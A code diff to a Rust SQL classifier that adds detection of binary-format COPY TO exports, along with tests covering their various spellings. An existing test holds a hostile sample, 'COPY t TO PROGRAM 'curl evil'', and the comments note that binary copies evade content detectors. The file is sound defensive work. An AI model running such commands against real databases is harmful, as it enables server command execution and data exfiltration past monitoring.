@@ -46,6 +46,8 @@ pub struct Classified {
     pub unbounded_write: bool,
     /// `COPY ... TO/FROM PROGRAM`: runs a shell command on the database server.
     pub copy_program: bool,
+    /// `COPY ... TO` in binary format: rows no content detector can read.
+    pub copy_binary_out: bool,
     /// Session settings it changes, lowercased: `SET x`, `SET NAMES` (`client_encoding`),
     /// `SET ROLE` (`role`), `SET SESSION AUTHORIZATION` (`session_authorization`),
     /// `set_config('x', ...)`; `*` when `set_config` names a setting that is not a literal.
@@ -363,6 +365,13 @@ impl Visitor for Walk {
                 }
             }
             Ast::Copy { target: CopyTarget::Program { .. }, .. } => self.c.copy_program = true,
+            Ast::Copy { to: true, options, legacy_options, .. } => {
+                use sqlparser::ast::{CopyLegacyOption, CopyOption};
+                self.c.copy_binary_out |= options
+                    .iter()
+                    .any(|o| matches!(o, CopyOption::Format(f) if f.value.eq_ignore_ascii_case("binary")))
+                    || legacy_options.iter().any(|o| matches!(o, CopyLegacyOption::Binary));
+            }
             Ast::Copy { to: false, .. } => self.writes = true,
             Ast::Set(set) => {
                 for name in set_names(set) {
@@ -708,6 +717,22 @@ mod tests {
         assert!(!one("UPDATE t SET a = 1 WHERE id IN (SELECT 1)").unbounded_write);
         assert!(one("DELETE FROM t").tables.contains("t"));
         assert!(one("COPY t TO PROGRAM 'curl evil'").copy_program);
+    }
+
+    #[test]
+    fn binary_copies_out_are_found_however_they_are_spelled() {
+        for sql in [
+            "COPY t TO STDOUT (FORMAT binary)",
+            "copy (SELECT 1) to stdout with (format BINARY, header false)",
+            "COPY t TO STDOUT (FORMAT 'binary')",
+            "COPY t TO STDOUT WITH BINARY",
+            "COPY BINARY t TO STDOUT",
+        ] {
+            assert!(one(sql).copy_binary_out, "{sql}");
+        }
+        for sql in ["COPY t TO STDOUT", "COPY t TO STDOUT (FORMAT csv)", "COPY t FROM STDIN (FORMAT binary)"] {
+            assert!(!one(sql).copy_binary_out, "{sql}");
+        }
     }
 
     #[test]
